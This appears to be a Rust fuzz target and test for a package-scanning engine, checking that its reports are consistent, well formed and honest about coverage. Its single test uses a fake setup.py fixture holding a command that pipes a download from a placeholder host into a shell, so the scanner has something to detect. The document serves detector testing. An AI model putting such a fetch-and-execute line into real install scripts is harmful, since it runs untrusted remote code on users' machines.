//! The scan engine: whatever a file says and is called, there is a report, and the report says what is true of the file.

use std::{collections::BTreeSet, io::Cursor, sync::LazyLock};

use domain::{Coverage, Finding, Report, Sha256};
use scanner::{ScanError, Scanner};

use crate::archive::{alone, repaired};

static SCANNER: LazyLock<Scanner> = LazyLock::new(|| Scanner::builtin().expect("the built-in rules compile"));

/// Every rule that a finding may name.
static RULES: LazyLock<BTreeSet<&str>> = LazyLock::new(|| {
    let of_engine = SCANNER.rules().iter().map(|rule| rule.id.as_str());
    of_engine.chain(archive::Violation::RULES.iter().copied()).collect()
});

/// Takes the first line for a path and the rest for the file there, which is scanned alone; and the bytes for an archive.
pub fn scanner(data: &[u8]) {
    for archive in repaired(data).iter().map(Vec::as_slice).chain([data]) {
        scan(archive);
    }
    let Some(end) = data.iter().position(|byte| *byte == b'\n') else { return };
    let (path, content) = (&data[..end], &data[end + 1..]);
    let Some(report) = scan(&alone(path, content)) else { return };
    // What the archive reader refuses or reads otherwise is the business of its own doors.
    if let Ok(path) = std::str::from_utf8(path)
        && report.coverage.files > 0
        && !report.findings.iter().any(|finding| finding.rule.starts_with("archive-"))
        && !path.starts_with("./")
        && !path.contains('\0')
    {
        check_places(&report, path, content);
    }
}

/// The report, if the bytes are an archive; everything said without the file was checked.
fn scan(bytes: &[u8]) -> Option<Report> {
    let once = || match SCANNER.scan(Sha256::of(bytes), Cursor::new(bytes)) {
        Ok(report) => Some(report),
        Err(ScanError::NotAnArchive) => None,
        Err(ScanError::Io(error)) => panic!("memory was not read: {error}"),
    };
    let report = once()?;
    assert_eq!(once().as_ref(), Some(&report), "scanned twice, found differently");
    assert_eq!(report.sha256, Sha256::of(bytes));
    report.findings.iter().for_each(check_finding);
    check_coverage(&report);
    Some(report)
}

fn check_finding(finding: &Finding) {
    assert!(RULES.contains(finding.rule.as_str()), "no rule is called {:?}", finding.rule);
    for text in [Some(&finding.message), finding.path.as_ref()].into_iter().flatten() {
        assert!(!text.chars().any(char::is_control), "{text:?} can forge a line");
        assert!(text.len() < 4096, "{} bytes of text", text.len());
    }
    assert_eq!(finding.line.is_some(), finding.end_line.is_some(), "{finding:?}");
    assert!(finding.line.is_none_or(|line| line > 0) && finding.line <= finding.end_line, "{finding:?}");
}

/// Every entry is scanned or skipped, and whoever skips one says so among the findings.
fn check_coverage(report: &Report) {
    let Coverage { files, bytes, scanned_files, scanned_bytes, skipped } = &report.coverage;
    // A long list is cut.
    if skipped.len() <= 100 {
        assert_eq!(*files, scanned_files + skipped.len() as u64, "{:?}", report.coverage);
    }
    assert!(scanned_files <= files && scanned_bytes <= bytes, "{:?}", report.coverage);
    let told = |rule: &str| rule.starts_with("archive-") || rule.starts_with("unread-");
    assert!(
        report.coverage.is_complete() || *files == 0 || report.findings.iter().any(|f| told(&f.rule)),
        "a gap that no finding tells: {report:?}"
    );
}

/// Every finding is in the file, or within what the file holds.
fn check_places(report: &Report, path: &str, content: &[u8]) {
    assert!(report.coverage.bytes >= content.len() as u64, "{:?}", report.coverage);
    let lines = 1 + content.iter().filter(|byte| **byte == b'\n').count() as u64;
    for finding in &report.findings {
        let place = finding.path.as_deref().unwrap_or_default();
        match place.strip_prefix(path) {
            Some("") => {
                assert!(finding.end_line.is_none_or(|end| end <= lines), "{finding:?} of {lines} lines")
            }
            within => assert!(within.is_some_and(|rest| rest.starts_with("!/")), "{finding:?} in {path:?}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Otherwise everything would be checked of nothing.
    #[test]
    fn a_file_alone_is_scanned_under_its_name() {
        let report =
            scan(&alone(b"p/setup.py", b"import os\nos.system('curl https://x.invalid | sh')\n")).unwrap();
        assert!(report.coverage.is_complete(), "{:?}", report.coverage);
        let places: BTreeSet<_> = report.findings.iter().map(|f| (f.path.as_deref(), f.line)).collect();
        assert_eq!(places, BTreeSet::from([(Some("p/setup.py"), Some(2))]));
    }
}
